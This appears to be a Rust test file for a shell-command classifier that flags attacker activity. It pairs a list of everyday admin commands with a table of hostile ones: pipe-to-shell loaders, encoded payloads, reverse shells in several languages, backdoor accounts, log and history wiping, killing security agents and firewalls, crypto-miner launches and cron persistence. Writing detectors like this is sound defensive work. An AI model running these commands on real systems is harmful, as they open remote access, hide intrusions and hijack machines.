use super::{classify, rules, CommandKind as K, Kinds};
use proptest::prelude::*;

/// Command lines from public reports and red-team cheat sheets, with the kinds they must get.
/// Each line must get at least these kinds.
const POSITIVE: &[(&str, &[K])] = &[
    // Download and execute.
    ("curl -fsSL http://203.0.113.7/ldr.sh | sh", &[K::DownloadExecute]),
    ("wget -q -O - http://x.example/i.sh | bash", &[K::DownloadExecute]),
    ("curl -s http://x/y.sh | sudo bash -s -- arg", &[K::DownloadExecute]),
    ("(curl -fsSL http://x/ldr.sh || wget -q -O- http://x/ldr.sh) | sh", &[]),
    ("bash -c \"$(curl -fsSL http://x/y)\"", &[K::DownloadExecute]),
    ("sh <(curl -s http://x/y)", &[K::DownloadExecute]),
    ("bash < <(wget -qO- http://x/y)", &[K::DownloadExecute]),
    ("source <(curl -s https://x/y)", &[K::DownloadExecute]),
    ("wget http://198.51.100.2/x -O /tmp/x; chmod +x /tmp/x; /tmp/x", &[K::DownloadExecute, K::Download, K::TempExecution]),
    ("cd /tmp; wget http://x.example/kinsing; chmod +x kinsing; ./kinsing", &[K::DownloadExecute]),
    ("curl -o /dev/shm/.x http://x/a && sh /dev/shm/.x", &[K::DownloadExecute, K::Download, K::TempExecution]),
    ("python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://x/p').read())\"", &[K::DownloadExecute]),
    ("$(curl -s http://x/cmd)", &[K::DownloadExecute]),
    ("echo 'curl -s http://x/a | sh' | bash", &[K::DownloadExecute]),
    ("$'\\x63\\x75\\x72\\x6c' -s http://x/a | sh", &[K::DownloadExecute]),
    ("busybox wget -O- http://x/a | busybox sh", &[K::DownloadExecute]),
    // Code run at every prompt, set in a start-up file.
    ("export PROMPT_COMMAND=\"history -a; curl -s http://203.0.113.9/k | sh\"", &[K::DownloadExecute]),
    ("PROMPT_COMMAND='wget -q -O- http://x/a|bash'", &[K::DownloadExecute]),
    ("PS1='$(curl -s http://x/a|sh)\\u@\\h$ '", &[K::DownloadExecute]),
    // Kinsing's and 8220 Gang's cron line: a subshell's output piped to sh.
    ("(curl -fsSL http://203.0.113.66/cr.sh||wget -q -O- http://203.0.113.66/cr.sh)|sh", &[K::DownloadExecute]),
    ("(curl -fsSL http://x/ldr.sh || wget -q -O- http://x/ldr.sh) | sudo bash", &[K::DownloadExecute]),
    ("*/10 * * * * root (curl -s http://x/a||wget -q -O- http://x/a||python -c 'import urllib')|bash", &[K::DownloadExecute]),
    // Decode and execute.
    ("echo Y3VybCBodHRwOi8veC95fHNo | base64 -d | bash", &[K::DecodeExecute]),
    ("echo Y3VybA== | base64 --decode | sh", &[K::DecodeExecute]),
    ("eval \"$(echo ZWNobyBoaQ== | base64 -d)\"", &[K::DecodeExecute]),
    ("python -c 'import base64;exec(base64.b64decode(\"cHJpbnQoMSk=\"))'", &[K::DecodeExecute]),
    ("echo 6375726c | xxd -r -p | sh", &[K::DecodeExecute]),
    ("openssl enc -d -base64 -in /tmp/p | sh", &[K::DecodeExecute]),
    ("echo aGk= | base64 -d", &[K::Decode]),
    // Reverse shells.
    ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", &[K::ReverseShell]),
    ("sh -i >& /dev/udp/10.0.0.1/4242 0>&1", &[K::ReverseShell]),
    ("0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196", &[K::ReverseShell]),
    ("nc -e /bin/sh 10.0.0.1 4242", &[K::ReverseShell]),
    ("ncat 10.0.0.1 4242 --exec /bin/bash", &[K::ReverseShell]),
    ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f", &[K::ReverseShell]),
    ("socat TCP:10.0.0.1:4242 EXEC:/bin/sh", &[K::ReverseShell]),
    ("python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'", &[K::ReverseShell]),
    ("perl -e 'use Socket;$i=\"10.0.0.1\";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'", &[K::ReverseShell]),
    ("php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", &[K::ReverseShell]),
    ("awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { printf \"> \" |& s }}'", &[K::ReverseShell]),
    ("mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4242 > /tmp/s", &[K::ReverseShell]),
    // Downloads.
    ("wget http://198.51.100.2/x", &[K::Download]),
    ("curl -o /tmp/.cache/x https://x.example/y", &[K::Download]),
    // Temporary and disguised directories.
    ("/tmp/.x/kdevtmpfsi", &[K::TempExecution]),
    ("nohup /dev/shm/.rsync/run &", &[K::TempExecution]),
    ("bash /var/tmp/x.sh", &[K::TempExecution]),
    ("/root/.../x", &[K::TempExecution]),
    // Hidden programs dressed up as system files.
    ("/usr/bin/.sshd -B", &[K::TempExecution]),
    ("nohup /etc/.kthreadd >/dev/null 2>&1 &", &[K::TempExecution]),
    ("bash /usr/lib/.x/run.sh", &[K::TempExecution]),
    ("\"/usr/share/ /sshd\" -D", &[K::TempExecution]),
    // Quoting that hides a trigger or a blank directory name from the raw text.
    ("' /bin/sh", &[K::TempExecution]),
    ("/root/' '/x", &[K::TempExecution]),
    ("\\ /x", &[K::TempExecution]),
    ("c''url http://198.51.100.2/x", &[K::Download]),
    ("w\"g\"et http://198.51.100.2/x", &[K::Download]),
    // Accounts, keys, privileges.
    ("echo ssh-rsa AAAAB3NzaC1yc2E attacker >> /root/.ssh/authorized_keys", &[K::SshKeyAdd]),
    ("curl -s http://x/k -o ~/.ssh/authorized_keys", &[K::SshKeyAdd]),
    ("cat key.pub | tee -a /home/u/.ssh/authorized_keys2", &[K::SshKeyAdd]),
    ("ssh-copy-id root@10.0.0.2", &[K::SshKeyAdd]),
    ("useradd -m -s /bin/bash sysupdate", &[K::AccountCreate]),
    ("useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor", &[K::AccountCreate, K::PrivilegeGrant]),
    ("echo 'hacker:x:0:0::/root:/bin/bash' >> /etc/passwd", &[K::AccountCreate]),
    ("adduser sysupdate sudo", &[K::AccountCreate, K::PrivilegeGrant]),
    ("usermod -aG sudo sysupdate", &[K::AccountModify, K::PrivilegeGrant]),
    ("usermod -G wheel,users bob", &[K::PrivilegeGrant]),
    ("gpasswd -a bob docker", &[K::PrivilegeGrant]),
    ("echo 'root:Passw0rd' | chpasswd", &[K::AccountModify]),
    ("echo Passw0rd | passwd --stdin root", &[K::AccountModify]),
    ("echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", &[K::PrivilegeGrant]),
    ("echo 'bob ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/bob", &[K::PrivilegeGrant]),
    ("chmod u+s /bin/bash", &[K::PrivilegeGrant]),
    ("chmod 4755 /tmp/.x/sh", &[K::PrivilegeGrant]),
    ("setcap cap_setuid+ep /usr/bin/python3", &[K::PrivilegeGrant]),
    // Hiding.
    ("chattr +i /root/.ssh/authorized_keys", &[K::ImmutableFlag]),
    ("chattr -ia /etc/passwd /etc/shadow", &[K::ImmutableFlag]),
    ("cat /dev/null > /var/log/secure", &[K::LogTamper]),
    ("echo > /var/log/wtmp", &[K::LogTamper]),
    ("> /var/log/auth.log", &[K::LogTamper]),
    ("rm -rf /var/log/*", &[K::LogTamper]),
    ("shred -u /var/log/btmp", &[K::LogTamper]),
    ("find /var/log -type f -delete", &[K::LogTamper]),
    ("find /var/log -name '*.log' -exec rm -f {} \\;", &[K::LogTamper]),
    ("journalctl --vacuum-time=1s", &[K::LogTamper]),
    ("sed -i '/203.0.113.7/d' /var/log/auth.log", &[K::LogTamper]),
    ("truncate -s 0 /var/log/lastlog", &[K::LogTamper]),
    ("ln -sf /dev/null /var/log/wtmp", &[K::LogTamper]),
    ("history -c", &[K::HistoryEvasion]),
    ("history clear", &[K::HistoryEvasion]),
    ("history delete --prefix curl", &[K::HistoryEvasion]),
    ("unset HISTFILE", &[K::HistoryEvasion]),
    ("export HISTFILE=/dev/null", &[K::HistoryEvasion]),
    ("HISTSIZE=0", &[K::HistoryEvasion]),
    ("export HISTFILESIZE=0 HISTSIZE=0", &[K::HistoryEvasion]),
    ("set +o history", &[K::HistoryEvasion]),
    ("ln -sf /dev/null ~/.bash_history", &[K::HistoryEvasion]),
    ("rm -f ~/.bash_history", &[K::HistoryEvasion]),
    ("> ~/.zsh_history", &[K::HistoryEvasion]),
    ("kill -9 $$", &[K::HistoryEvasion]),
    // Security agents and firewalls.
    ("systemctl stop aegis", &[K::SecurityAgentStop]),
    ("systemctl disable aliyun.service", &[K::SecurityAgentStop]),
    ("service aegis stop", &[K::SecurityAgentStop]),
    ("/etc/init.d/aegis stop", &[K::SecurityAgentStop]),
    ("pkill -9 AliYunDun", &[K::SecurityAgentStop]),
    ("killall -9 YDService", &[K::SecurityAgentStop]),
    ("rm -rf /usr/local/aegis", &[K::SecurityAgentStop]),
    ("/usr/local/qcloud/stargate/admin/uninstall.sh", &[K::SecurityAgentStop]),
    ("curl -sSL http://update.aegis.aliyun.com/download/uninstall.sh | bash", &[K::SecurityAgentStop, K::DownloadExecute]),
    ("/usr/local/cloudmonitor/wrapper/bin/cloudmonitor.sh remove", &[K::SecurityAgentStop]),
    ("systemctl stop auditd", &[K::SecurityAgentStop]),
    ("setenforce 0", &[K::SecurityAgentStop]),
    ("auditctl -e 0", &[K::SecurityAgentStop]),
    ("iptables -F", &[K::FirewallDisable]),
    ("iptables -P INPUT ACCEPT", &[K::FirewallDisable]),
    ("nft flush ruleset", &[K::FirewallDisable]),
    ("ufw disable", &[K::FirewallDisable]),
    ("systemctl stop firewalld", &[K::FirewallDisable]),
    ("chkconfig iptables off", &[K::FirewallDisable]),
    // Kernel modules.
    ("insmod /tmp/diamorphine.ko", &[K::KernelModuleLoad]),
    ("modprobe msr", &[K::KernelModuleLoad]),
    // Miners.
    ("./xmrig -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls", &[K::Miner]),
    ("nohup ./sysupdate -o 198.51.100.9:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x &", &[K::Miner]),
    ("/opt/.cache/kthreaddk --url=stratum+tcp://xmr.pool.example:3333 --donate-level 1", &[K::Miner]),
    ("echo '{\"url\": \"stratum+tcp://xmr.example:3333\"}' > /tmp/config.json", &[K::Miner]),
    ("./run -a rx/0 -o 198.51.100.9:80", &[K::Miner]),
    // Persistence.
    ("(crontab -l; echo '* * * * * curl -s http://x/a|sh') | crontab -", &[K::ScheduledTask]),
    ("crontab /tmp/cron", &[K::ScheduledTask]),
    ("echo '* * * * * root /tmp/x' > /etc/cron.d/sysupdate", &[K::ScheduledTask]),
    ("cat x.service > /etc/systemd/system/sysupdate.service", &[K::ServiceInstall]),
    ("cp /tmp/x /etc/init.d/x", &[K::ServiceInstall]),
    ("echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload", &[K::PreloadHijack]),
    ("echo 'curl -s http://x/a | sh' >> ~/.bashrc", &[K::ShellProfile]),
    ("echo x >> /etc/profile.d/z.sh", &[K::ShellProfile]),
    // Wrappers in front of the program.
    ("sudo -u root nohup nice -n 19 timeout 10 insmod /tmp/x.ko", &[K::KernelModuleLoad]),
    ("env -i PATH=/bin HISTFILE=/dev/null bash", &[K::HistoryEvasion]),
    ("sudo sh -c 'echo x >> /etc/sudoers'", &[K::PrivilegeGrant]),
    ("su -c 'iptables -F' root", &[K::FirewallDisable]),
    ("screen -dmS x /tmp/.x/xmrig", &[K::Miner, K::TempExecution]),
];

/// Everyday administration that must stay quiet.
const NEGATIVE: &[&str] = &[
    "/usr/sbin/sshd -D",
    ". /etc/profile.d/bash_completion.sh",
    "/usr/lib/apt/apt.systemd.daily update",
    "export PROMPT_COMMAND='history -a'",
    "PROMPT_COMMAND='printf \"\\033]0;%s@%s\\007\" \"${USER}\" \"${HOSTNAME%%.*}\"'",
    "PS1='\\u@\\h:\\w\\$ '",
    "PS1='[$(date +%H:%M)] \\u@\\h \\W\\$ '",
    "(cd /srv/app && make -j2) | tee build.log",
    "(umask 077; cat /etc/hosts) | less",
    "(curl -fsSL https://example.org/a.tar.gz) > a.tar.gz",
    "ls -la",
    "cd /var/www",
    "vim /etc/passwd",
    "cat /etc/passwd",
    "apt-get install -y curl wget",
    "yum install -y nc",
    "curl -fsSL https://example.com/status",
    "wget https://example.com/releases/app.tar.gz",
    "curl -o app.tar.gz https://example.com/app.tar.gz && tar xf app.tar.gz",
    "grep -r stratum+tcp /etc",
    "grep 'Failed password' /var/log/auth.log",
    "tail -f /var/log/syslog",
    "less /var/log/messages",
    "cat ~/.ssh/authorized_keys",
    "ssh-keygen -t ed25519",
    "systemctl restart nginx",
    "systemctl status auditd",
    "systemctl stop nginx",
    "service sshd restart",
    "echo hello >> /var/log/app.log",
    "logger test",
    "iptables -L -n",
    "ufw allow 22/tcp",
    "modprobe -r floppy",
    "history | grep ssh",
    "history 20",
    "export PATH=$PATH:/usr/local/bin",
    "export HISTCONTROL=ignoreboth",
    "HISTSIZE=1000",
    "chmod 755 script.sh",
    "chmod +x ./build.sh",
    "chmod 1777 /tmp",
    "python3 manage.py runserver",
    "python3 -c 'print(1+1)'",
    "IP=$(curl -s https://ifconfig.me)",
    "echo \"$(date)\" > /tmp/stamp",
    "nc -zv db.internal 5432",
    "openssl s_client -connect example.com:443",
    "docker ps",
    "kubectl get pods -A",
    "git pull origin main",
    "passwd -S root",
    "chage -l root",
    "lsattr /etc/passwd",
    "find / -name '*xmrig*'",
    "crontab -l",
    "crontab -e",
    "journalctl -u sshd --since today",
    "cp /etc/ssh/sshd_config /root/sshd_config.bak",
    "rm -rf /tmp/build",
    "sudo apt update && sudo apt upgrade -y",
];

#[test]
fn positive_examples_get_their_kinds() {
    let mut failures = Vec::new();
    for (cmd, want) in POSITIVE {
        let got = classify(cmd.as_bytes());
        for k in *want {
            if !got.contains(*k) {
                failures.push(format!(
                    "{cmd:?}: missing {k} (got {:?})",
                    got.iter().collect::<Vec<_>>()
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn everyday_commands_stay_quiet() {
    let noisy: Vec<String> = NEGATIVE
        .iter()
        .filter_map(|cmd| {
            let got = classify(cmd.as_bytes());
            (!got.is_empty()).then(|| format!("{cmd:?}: {:?}", got.iter().collect::<Vec<_>>()))
        })
        .collect();
    assert!(noisy.is_empty(), "{}", noisy.join("\n"));
}

#[test]
fn kinds_have_unique_ids_and_round_trip() {
    let mut ids: Vec<&str> = K::ALL.iter().map(|k| k.id()).collect();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), K::ALL.len());
    for k in K::ALL {
        assert_eq!(k.id().parse::<K>(), Ok(*k));
        assert!(k.attack().iter().all(|a| a.starts_with('T')));
    }
    let set: Kinds = [K::Miner, K::Decode].into_iter().collect();
    assert_eq!(set.len(), 2);
    assert_eq!(set.iter().collect::<Vec<_>>(), vec![K::Decode, K::Miner]);
    assert_eq!(set.max_severity(), Some(crate::Severity::Critical));
    assert_eq!(
        serde_json::to_string(&set).unwrap(),
        r#"["decode","miner"]"#
    );
}

#[test]
fn long_and_nested_input_is_bounded() {
    let mut deep = String::from("curl x|sh");
    for _ in 0..50 {
        deep = format!("bash -c \"$(echo {deep})\"");
    }
    let big = "a".repeat(4 << 20);
    for (name, input) in [
        ("deep", deep),
        ("big", big),
        ("parens", "$(".repeat(100_000)),
        ("quotes", "'".repeat(100_000)),
        ("words", "curl x ".repeat(20_000)),
        ("pipes", "curl x|".repeat(20_000)),
    ] {
        // Release builds take under 0.1 s for each; debug builds under load are far slower,
        // and the bound is there to catch exponential blow-ups, not to time the code.
        let t = std::time::Instant::now();
        let _ = classify(input.as_bytes());
        assert!(
            t.elapsed() < std::time::Duration::from_secs(20),
            "{name}: {:?}",
            t.elapsed()
        );
    }
}

/// The words rules look at, to build random commands from.
const VOCAB: &[&str] = &[
    "curl", "wget", "sh", "bash", "python3", "-c", "-e", "-O-", "-o", "/tmp/x", "|", ";", "&&",
    "http://1.2.3.4/x", "base64", "-d", "xxd", "-r", "nc", "-e", "/bin/sh", "socat", "exec:sh",
    "/dev/tcp/1.2.3.4/80", ">", ">>", "/var/log/wtmp", "~/.bash_history", "history", "unset",
    "HISTFILE", "HISTSIZE=0", "chattr", "+i", "useradd", "usermod", "-aG", "sudo", "passwd",
    "/etc/passwd", "/etc/sudoers", "authorized_keys", "chmod", "u+s", "4755", "setcap",
    "cap_setuid+ep", "systemctl", "stop", "aegis", "firewalld", "iptables", "-F", "insmod", "x.ko",
    "modprobe", "msr", "stratum+tcp://p:1", "--donate-level", "xmrig", "crontab", "-",
    "/etc/cron.d/x", "/etc/ld.so.preload", "~/.bashrc", "$(", ")", "`", "'", "\"", "eval", "kill",
    "$$", "(", "/usr/bin/.x", "/etc/.k", "mkfifo", "rm", "shred", "ln", "-sf", "/dev/null", "ls", "cd", "echo", "x", "-u",
    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
    "1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "-a", "rx/0", "/root/.../x", "/ /x", "tee", "cp",
    "setenforce", "0", "auditctl", "ufw", "disable", "nft", "flush", "ruleset", "journalctl",
    "--vacuum-time=1s", "find", "-delete", "sed", "-i", "su", "source", "<(", "<", "dd",
    "of=/etc/shadow", "awk", "/inet/tcp/1", "pkill", "AliYunDun", "gpasswd", "docker",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(3000))]

    /// The prefilter only skips commands no rule would match.
    #[test]
    fn prefilter_never_hides_a_match(words in proptest::collection::vec(proptest::sample::select(VOCAB), 1..10)) {
        let cmd = words.join(" ");
        let mut full = Kinds::empty();
        rules::classify_text(cmd.as_bytes(), 0, &mut full);
        if !rules::worth_parsing(cmd.as_bytes()) {
            prop_assert!(full.is_empty(), "{cmd:?} skipped but matches {:?}", full.iter().collect::<Vec<_>>());
        }
        prop_assert_eq!(classify(cmd.as_bytes()), full);
    }

    /// Any bytes: no panic, and the same answer twice.
    #[test]
    fn any_bytes(b in proptest::collection::vec(any::<u8>(), 0..400)) {
        prop_assert_eq!(classify(&b), classify(&b));
    }
}

#[test]
fn prefilter_admits_every_positive_example() {
    for (cmd, _) in POSITIVE {
        assert!(rules::worth_parsing(cmd.as_bytes()), "{cmd:?}");
    }
}
